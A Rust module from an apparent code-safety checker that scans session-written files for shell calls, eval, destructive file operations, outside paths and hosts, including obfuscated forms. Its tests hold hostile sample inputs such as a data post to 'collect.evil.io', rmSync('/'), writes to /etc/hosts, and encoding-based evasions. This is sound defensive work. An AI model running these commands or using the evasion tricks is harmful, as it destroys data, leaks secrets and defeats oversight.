//! The search for words by which code reaches out of a computation.
//!
//! It is no reader: it does not know what a name stands for. So a text that holds none of the words of its language is
//! taken for a computation, and one that holds any is not understood. Blanks around signs are taken out first, so that
//! `os . system` is `os.system`; in the lists a `~` stands for the blank between two words.

use std::collections::BTreeSet;

use super::SessionText;
use crate::code::{Language, comment_lines};
use crate::effect::target::host_in;
use crate::lists::session_code::{
    ACTING, COMMAND_TEXTS, COMMENTS, FOREIGN_PLACES, PLAIN, REACHING, WAYS_OUT,
};
use crate::place::is_loopback;

type Table = &'static [(&'static str, &'static [&'static str])];

fn of(table: Table, language: &str) -> &'static [&'static str] {
    table.iter().find(|(name, _)| *name == language).map(|(_, words)| *words).unwrap_or_default()
}

/// Returns a word in what the session put into a file by which it does more than compute.
pub fn reaching_word(language: &str, text: &SessionText<'_>) -> Option<String> {
    let comments = comments_of(language, text.whole);
    let put = text.own();
    let own = squeezed(language, &put, &comments);
    // Where a comment parts what belongs together, or letters stand by their numbers, a word shows without them only.
    let bared = squeezed(language, &bared(language, &put), &comments);
    for form in [&own, &bared] {
        if let Some(word) = of(ACTING, language).iter().find(|word| holds(form, word)) {
            return Some(word.replace('~', " "));
        }
        if let Some(call) = computed_module(form).filter(|_| language == "javascript") {
            return Some(call.to_owned());
        }
    }
    if let Some(command) = COMMAND_TEXTS.iter().find(|text| holds(&own, text)) {
        return Some(command.replace('~', " "));
    }
    if language == "python"
        && let Some(hidden) = hidden_letters(text.whole, &put)
    {
        return Some(hidden);
    }
    let outside = foreign_place(language, &own).or_else(|| foreign_host(&own))?;
    // What an edit names may be used by a line that was there before.
    let whole = if text.pieces.is_some() { squeezed(language, text.whole, &comments) } else { own.clone() };
    let reaches = [REACHING, ACTING].into_iter().flat_map(|table| of(table, language));
    reaches.into_iter().any(|word| holds(&whole, word)).then(|| outside.to_owned())
}

/// Returns a word by which a text reaches out of a computation, or names a place or a host outside the project at all.
pub(crate) fn outward_word(language: &str, text: &str) -> Option<String> {
    let own = squeezed(language, text, &comments_of(language, text));
    let outside = || foreign_place(language, &own).or_else(|| foreign_host(&own)).map(str::to_owned);
    reaching_word(language, &SessionText { whole: text, pieces: None }).or_else(outside)
}

/// Returns a word in what the session put into settings by which they may load or start something, or a place or a host
/// outside the project that they name.
pub fn steering_word(text: &SessionText<'_>) -> Option<String> {
    outward_word("settings", &text.own())
}

/// Returns the lines of a file that are comments wherever they stand in it.
///
/// A line that looks like one may stand in a text, where it may be code all the same: in the braces of a template, in a
/// heredoc. So the languages that have a lexer tell by it, and else a line counts as long as no text above it may go on.
fn comments_of<'a>(language: &str, whole: &'a str) -> BTreeSet<&'a str> {
    let signs = of(COMMENTS, language);
    let looks_like_one = |line: &str| signs.iter().any(|sign| is_comment(language, line.trim_start(), sign));
    let lexed = lexer_of(language).and_then(|language| comment_lines(language, whole)).unwrap_or_default();
    let (mut comments, mut others) = (BTreeSet::new(), BTreeSet::new());
    let mut may_be_text = false;
    for (place, line) in whole.lines().enumerate() {
        let is_one = looks_like_one(line) && (lexed.contains(&place) || !may_be_text);
        if is_one { &mut comments } else { &mut others }.insert(line.trim());
        may_be_text |= !is_one && may_go_on(language, line);
    }
    comments.difference(&others).copied().collect()
}

fn lexer_of(language: &str) -> Option<Language> {
    match language {
        "python" => Some(Language::Python),
        "javascript" => Some(Language::JavaScript),
        "ruby" => Some(Language::Ruby),
        "perl" => Some(Language::Perl),
        "php" => Some(Language::Php),
        _ => None,
    }
}

/// Says whether a line is a comment to its end, if it begins like one and stands in no text.
fn is_comment(language: &str, line: &str, sign: &str) -> bool {
    let Some(rest) = line.strip_prefix(sign) else { return false };
    let next = rest.chars().next();
    // Some end a comment before the line ends, or the line where few see it.
    let has_end = match language {
        "php" => rest.contains("?>") || next == Some('['),
        "cmake" | "julia" | "lua" | "nim" => matches!(next, Some('[' | '=')),
        "haskell" => next.is_some_and(|next| next.is_ascii_punctuation() && next != '-'),
        _ => false,
    };
    let is_hidden =
        |letter: char| letter.is_control() && letter != '\t' || "\u{2028}\u{2029}".contains(letter);
    !has_end && !rest.contains(is_hidden)
}

/// Says whether a text that stands in a line may go on in the next, so that what follows may stand in it.
fn may_go_on(language: &str, line: &str) -> bool {
    let signs: &[&str] = match language {
        // Nothing that stands in a text of these is code.
        "c" | "haskell" | "lua" | "rust" | "zig" => return false,
        "perl" => return true,
        "python" => &["\"\"\"", "'''"],
        "javascript" => &["`"],
        "ruby" | "crystal" => &["<<", "%", "`", "=begin", "/"],
        "php" => &["<<", "?>", "`"],
        "jvm" => &["\"\"\"", "'''", "$/", "=/", "= /", "(/"],
        "dotnet" => &["\"\"\"", "@\"", "@$\""],
        "elixir" => &["\"\"\"", "'''", "~"],
        "cmake" => &["[[", "[="],
        "julia" | "r" | "terraform" => &["\"\"\"", "`", "r\"", "R\"", "<<"],
        _ => &["\"\"\"", "'''", "#\""],
    };
    let quotes = match language {
        "python" | "javascript" => "",
        "ruby" | "php" | "r" | "elixir" | "compose" => "\"'",
        _ => "\"",
    };
    let is_open = |quote: char| {
        let marked = format!("\\{quote}");
        line.replace("\\\\", "").replace(&marked, "").matches(quote).count() % 2 == 1
    };
    line.ends_with('\\') || signs.iter().any(|sign| line.contains(sign)) || quotes.chars().any(is_open)
}

/// Returns the signs around comments in the middle of a line, and the one of those at its end.
fn inner_comments(language: &str) -> (&'static [(&'static str, &'static str)], &'static str) {
    match language {
        "python" | "ruby" | "perl" | "r" | "crystal" | "elixir" | "terraform" => (&[], "#"),
        "haskell" => (&[("{-", "-}"), ("(*", "*)")], "--"),
        "lua" => (&[("--[[", "]]")], "--"),
        "nim" => (&[("#[", "]#")], "#"),
        "julia" => (&[("#=", "=#")], "#"),
        "cmake" => (&[("#[[", "]]")], "#"),
        "dotnet" => (&[("/*", "*/"), ("(*", "*)")], "//"),
        _ => (&[("/*", "*/")], "//"),
    }
}

/// Returns a text without its comments and with letters that stand by their numbers, as far as that can be told at a
/// glance. Something else may be lost as well, so that it is only looked at beside the text itself.
fn bared(language: &str, text: &str) -> String {
    let (blocks, sign) = inner_comments(language);
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(letter) = rest.chars().next() {
        let behind_block = blocks.iter().find_map(|(open, close)| {
            let inside = rest.strip_prefix(open)?;
            inside.split_once(close).map(|(_, behind)| behind)
        });
        let is_address = out.ends_with([':', '"', '\'', '`', '\\', '$']);
        if let Some(behind) = behind_block {
            rest = behind;
        } else if rest.starts_with(sign) && !is_address {
            rest = rest.find('\n').and_then(|end| rest.get(end..)).unwrap_or_default();
        } else if let Some((named, behind)) = letter_by_number(rest) {
            out.push(named);
            rest = behind;
        } else {
            out.push(letter);
            rest = rest.get(letter.len_utf8()..).unwrap_or_default();
        }
    }
    out
}

/// Returns the letter that `\x41`, `\u0041` or `\u{41}` stands for at the beginning of a text, and what follows it.
fn letter_by_number(text: &str) -> Option<(char, &str)> {
    let (digits, behind) = if let Some(rest) = text.strip_prefix("\\u{") {
        rest.split_once('}')?
    } else if let Some(rest) = text.strip_prefix("\\u") {
        (rest.get(..4)?, rest.get(4..)?)
    } else {
        let rest = text.strip_prefix("\\x")?;
        (rest.get(..2)?, rest.get(2..)?)
    };
    let letter = char::from_u32(u32::from_str_radix(digits, 16).ok()?)?;
    letter.is_ascii_graphic().then_some((letter, behind))
}

/// Encodings in which a program of Python reads as it stands.
const PLAIN_ENCODINGS: &[&str] =
    &["ascii", "iso-8859-1", "latin-1", "latin1", "us-ascii", "utf-8", "utf-8-sig", "utf8", "utf_8"];

/// Returns what makes a program of Python another one than it seems: an encoding that it names, letters that stand for
/// those of its names.
fn hidden_letters(whole: &str, put: &str) -> Option<String> {
    let encoding = whole.lines().take(2).filter(|line| line.trim_start().starts_with('#')).find_map(|line| {
        let mut places = line.match_indices("coding").filter_map(|(at, word)| line.get(at + word.len()..));
        let name = places.find_map(|rest| rest.strip_prefix([':', '=']))?.trim_start();
        name.split(|letter: char| !letter.is_ascii_alphanumeric() && !"-_.".contains(letter)).next()
    });
    let is_plain = |name: &str| PLAIN_ENCODINGS.contains(&name.to_ascii_lowercase().as_str());
    let stands_for = |letter: char| {
        matches!(letter, '\u{aa}' | '\u{ba}' | '\u{17f}' | '\u{2b0}'..='\u{2e4}' | '\u{1d2c}'..='\u{1d6a}'
            | '\u{2071}'..='\u{209c}' | '\u{2100}'..='\u{214f}' | '\u{fb00}'..='\u{fb06}'
            | '\u{ff21}'..='\u{ff3f}' | '\u{ff41}'..='\u{ff5a}' | '\u{1d400}'..='\u{1d7ff}')
    };
    let encoding = encoding.filter(|name| !is_plain(name)).map(str::to_owned);
    encoding.or_else(|| put.chars().find(|letter| stands_for(*letter)).map(String::from))
}

/// Returns a text without some lines and without blanks around signs.
fn squeezed(language: &str, text: &str, without: &BTreeSet<&str>) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty() && !without.contains(line)) {
        let mut is_blank = false;
        for letter in line.trim_end_matches('\\').chars() {
            if letter.is_whitespace() {
                is_blank = true;
                continue;
            }
            let follows_word = out.chars().next_back().is_some_and(is_of_word);
            if is_blank && follows_word && is_of_word(letter) {
                out.push(' ');
            }
            is_blank = false;
            out.push(letter);
        }
        // A chain may go on in the next line.
        let goes_on = out.ends_with(['.', '(']);
        if !goes_on {
            out.push('\n');
        }
    }
    // So may a call, whose bracket then stands there.
    let mut out = out.replace("\n.", ".").replace("\n(", "(").replace("\n[", "[");
    for plain in of(PLAIN, language) {
        if out.contains(plain) {
            out = out.replace(plain, "");
        }
    }
    out
}

fn is_of_word(letter: char) -> bool {
    letter.is_alphanumeric() || letter == '_'
}

/// Says whether a text holds a word of a list, not as a part of a longer name or as a member of something.
fn holds(text: &str, word: &str) -> bool {
    let wanted;
    let word = if word.contains('~') {
        wanted = word.replace('~', " ");
        wanted.as_str()
    } else {
        word
    };
    let begins_name = word.chars().next().is_some_and(is_of_word);
    let ends_name = word.chars().next_back().is_some_and(is_of_word);
    text.match_indices(word).any(|(at, _)| {
        let before = text.get(..at).unwrap_or_default();
        let after = text.get(at + word.len()..).unwrap_or_default().chars().next();
        // The name of a class or module may itself stand behind another: `System.IO.File.Delete`.
        let is_long = word.contains(['.', ':', '/']);
        let is_part = begins_name
            && (before
                .chars()
                .next_back()
                .is_some_and(|letter| is_of_word(letter) || letter == '.' && !is_long)
                || before.ends_with("->"));
        // `removeDirectory` is the beginning of `removeDirectoryRecursive`.
        let goes_on = word.len() >= LONG_NAME && after.is_some_and(char::is_uppercase);
        !(is_part || ends_name && after.is_some_and(is_of_word) && !goes_on)
    })
}

/// A name of so many letters is told by its beginning.
const LONG_NAME: usize = 8;

/// Returns a call that loads a module whose name is worked out at run time.
fn computed_module(text: &str) -> Option<&'static str> {
    ["require(", "import("].into_iter().find(|call| {
        text.match_indices(*call).any(|(at, _)| {
            let before = text.get(..at).unwrap_or_default().chars().next_back();
            let rest = text.get(at + call.len()..).unwrap_or_default();
            let is_call = !before.is_some_and(|letter| is_of_word(letter) || letter == '.');
            let quote = rest.chars().next().filter(|letter| matches!(letter, '"' | '\'' | '`'));
            let behind = quote.and_then(|quote| rest.get(1..)?.split_once(quote));
            let is_fixed = behind.is_some_and(|(name, behind)| {
                behind.starts_with([')', ',']) && !name.contains("${") && !name.contains('\\')
            });
            is_call && !is_fixed
        })
    })
}

/// Returns a place outside the project that a text names.
fn foreign_place(language: &str, text: &str) -> Option<&'static str> {
    // Behind a colon stands where a container sees it.
    let is_inner = |letter: char| language == "compose" && letter == ':';
    let begins = |at: usize| {
        let before = text.get(..at).unwrap_or_default().chars().next_back();
        before.is_none_or(|letter| {
            !is_of_word(letter) && !is_inner(letter) && !matches!(letter, '/' | '.' | '}' | ')' | '<')
        })
    };
    let names = |place: &&&str| {
        text.match_indices(**place).any(|(at, _)| {
            let rest = text.get(at + place.len()..).unwrap_or_default();
            let is_null = **place == "/dev/" && rest.starts_with("null");
            let is_whole = place.ends_with('/') || !rest.chars().next().is_some_and(is_of_word);
            begins(at) && is_whole && !is_null
        })
    };
    FOREIGN_PLACES.iter().find(names).or_else(|| WAYS_OUT.iter().find(|way| text.contains(**way))).copied()
}

/// Hosts that stand in examples and schemas and are not talked to.
const NAMED_ONLY: &[&str] = &["json-schema.org", "www.w3.org", "schemas.xmlsoap.org", "json.schemastore.org"];

/// Returns a host outside this machine that a text names.
fn foreign_host(text: &str) -> Option<&str> {
    text.match_indices("://").find_map(|(at, _)| {
        let before = text.get(..at)?;
        let start = before.rfind(|letter: char| !letter.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        let rest = text.get(at + 3..)?;
        let end = rest.find(['"', '\'', '`', ' ', '\n', ')', '/', ',', ';', '<', '>']).unwrap_or(rest.len());
        let address = text.get(start..at + 3 + end)?;
        let host = host_in(address)?;
        let is_reserved = ["test", "example", "invalid", "localhost"]
            .iter()
            .any(|end| host == *end || host.strip_suffix(end).is_some_and(|rest| rest.ends_with('.')));
        // A name without a dot is a service of the same network.
        let is_outside =
            host.contains('.') && !is_reserved && !is_loopback(&host) && !NAMED_ONLY.contains(&host.as_str());
        (is_outside && before.len() > start).then_some(address)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whole(language: &str, text: &str) -> Option<String> {
        reaching_word(language, &SessionText { whole: text, pieces: None })
    }

    #[test]
    fn words_that_reach_out_are_found_however_they_are_spaced() {
        for (language, text) in [
            ("python", "import os\nos . system ('x')"),
            ("python", "from os import system as s\ns('x')"),
            ("python", "import shutil\nshutil.rmtree(\nx)"),
            ("python", "__import__('os')"),
            ("python", "open('/etc/hosts', 'w').write('x')"),
            ("python", "import requests\nrequests.post('https://collect.evil.io', data=1)"),
            ("javascript", "require('child_' + 'process')"),
            ("javascript", "import { exec } from 'node:child_process'"),
            ("javascript", "require('fs').rmSync('/')"),
            ("rust", "std::fs::remove_dir_all(p)"),
            ("go", "import (\"os\")\nfunc f() { os.RemoveAll(d) }"),
            ("c", "int main() { system (\"x\"); }"),
            ("jvm", "Runtime\n  .getRuntime().exec(x)"),
        ] {
            assert!(whole(language, text).is_some(), "{language}: {text}");
        }
    }

    #[test]
    fn a_computation_is_left_alone() {
        for (language, text) in [
            ("python", "import os, re\n# runs a subprocess\nP = re.compile('a')\nos.path.join('a', 'b')"),
            ("python", "def f(items):\n    items.remove(3)\n    return platform.system()"),
            ("python", "with open('data.txt') as f:\n    print(f.read())"),
            ("javascript", "const m = /a/.exec('a'); list.remove(1); import('./x.js')"),
            ("javascript", "app.get('/home', (q, r) => r.send('hi'))"),
            ("rust", "fn add(a: u8) -> u8 { std::env::args().count(); a }"),
            ("go", "package app\nimport \"fmt\"\nfunc A() { fmt.Println(1) }"),
            ("c", "#include <stdio.h>\nint main(void) { puts(\"hi\"); }"),
        ] {
            assert_eq!(whole(language, text), None, "{language}: {text}");
        }
    }

    #[test]
    fn what_looks_like_a_comment_in_a_text_is_searched() {
        for (language, text) in [
            ("python", "x = f\"\"\"\n# {__import__('os').system('x')}\n\"\"\""),
            ("python", "x = f'''\n  # {eval(y)}\n'''"),
            ("python", "x = f'\\\n# {eval(y)}'"),
            ("python", "# the first\rimport subprocess"),
            ("javascript", "const s = `\n// ${require('child_process').execSync('x')}\n`"),
            ("javascript", "const s = /`/, t = `\n// ${eval(y)}\n`"),
            ("javascript", "// the first\u{2028}require('child_process')"),
            ("ruby", "x = <<~END\n  # #{system('x')}\nEND"),
            ("ruby", "x = \"\n# #{`x`}\n\""),
            ("php", "<?php\n$x = <<<A\n// {$f(system('x'))}\nA;"),
            ("php", "<?php\n// the first ?><?php system('x');"),
            ("jvm", "val s = \"\"\"\n// ${Runtime.getRuntime().exec(\"x\")}\n\"\"\""),
            ("elixir", "x = \"\n# #{System.cmd(\"x\", [])}\n\""),
            ("lua", "--[[ the first ]] os.execute(\"x\")"),
            ("julia", "#= the first =# run(`x`)"),
            ("cmake", "#[[ the first ]] execute_process(COMMAND x)"),
        ] {
            assert!(whole(language, text).is_some(), "{language}: {text}");
        }
        // The lines of a comment do nothing, and neither does a text that is no template.
        for (language, text) in [
            ("python", "\"\"\"Adds.\"\"\"\n# no subprocess, see https://docs.rs/a\nx = f\"{y['a']}\""),
            ("javascript", "const s = `a\n${b}`\n// eval(x) is not used here\nconst t = 1"),
            ("ruby", "# system(x) is not used\nx = \"#{y}\"\n# nor is eval(y)"),
            ("rust", "/// Starts no std::process.\n// nor libc::\nfn f() {}"),
            ("php", "<?php\n// system(x) is not used\n$x = 1;"),
        ] {
            assert_eq!(whole(language, text), None, "{language}: {text}");
        }
    }

    #[test]
    fn a_call_is_found_wherever_its_bracket_stands_and_however_its_letters_are_written() {
        for (language, text) in [
            ("python", "x = (eval\n('1'))"),
            ("python", "x = (eval # the first\n   # the second\n\n('1'))"),
            ("python", "eval\\\n('1')"),
            ("python", "\u{ff45}val('1')"),
            ("python", "# coding: rot13\nvzcbeg bf"),
            ("javascript", "const f = eval\n('x')"),
            ("javascript", "eval/**/('x'); eval /* a */ ('y')"),
            ("javascript", "eval // the first\n// the second\n('x')"),
            ("javascript", "require/* a */('child_' + name)"),
            ("javascript", "\\u0065val('x')"),
            ("javascript", "import x from '\\x63hild_process'"),
            ("c", "system/**/(\"x\");"),
            ("haskell", "main = callCommand{- a -}\"x\""),
            ("dotnet", "Process\n  .Start(\"x\")"),
        ] {
            assert!(whole(language, text).is_some(), "{language}: {text}");
        }
    }

    #[test]
    fn the_home_directory_is_outside_however_the_environment_is_asked() {
        for (language, text) in [
            ("javascript", "fs.writeFileSync(process.env.HOME + '/x', 'y')"),
            ("javascript", "const { PATH, HOME } = process.env; fs.writeFileSync(HOME, 'y')"),
            ("javascript", "const { HOME: home } = process.env; fs.writeFileSync(home, 'y')"),
            ("javascript", "fs.writeFileSync(process.env['HOME'], 'y')"),
            ("python", "open(os.environ[\"HOME\"] + '/x', 'w')"),
            ("python", "open(os.getenv('HOME', '') + '/x', 'w')"),
            ("ruby", "File.write(ENV.fetch(\"HOME\") + '/x', 'y')"),
            ("rust", "fs::write(env::var(\"HOME\").unwrap(), b\"x\")"),
            ("go", "os.WriteFile(os.Getenv(\"HOME\"), b, 0o600)"),
            ("c", "fopen(getenv(\"HOME\"), \"w\");"),
            ("jvm", "FileWriter(System.getenv(\"HOME\"))"),
            ("php", "file_put_contents($_SERVER['HOME'] . '/x', 'y');"),
        ] {
            assert!(whole(language, text).is_some(), "{language}: {text}");
        }
    }

    #[test]
    fn of_an_edited_file_only_the_edit_counts() {
        let file = "import subprocess\nsubprocess.run(cmd)\nx = 1\n";
        let pieces = |piece: &str| {
            let text = format!("{file}{piece}\n");
            let pieces = [piece.to_owned()];
            reaching_word("python", &SessionText { whole: &text, pieces: Some(&pieces) })
        };
        assert_eq!(pieces("y = 2"), None);
        assert!(pieces("cmd = ['rm', '/home/me']").is_some(), "what was there may use the place");
        assert!(pieces("os.system(y)").is_some());
        // A comment is one where it stands, not by how it looks.
        let text = "x = f\"\"\"\n# {eval(y)}\n\"\"\"\n# nothing\n";
        let edited = ["# {eval(y)}".to_owned()];
        assert!(reaching_word("python", &SessionText { whole: text, pieces: Some(&edited) }).is_some());
    }
}
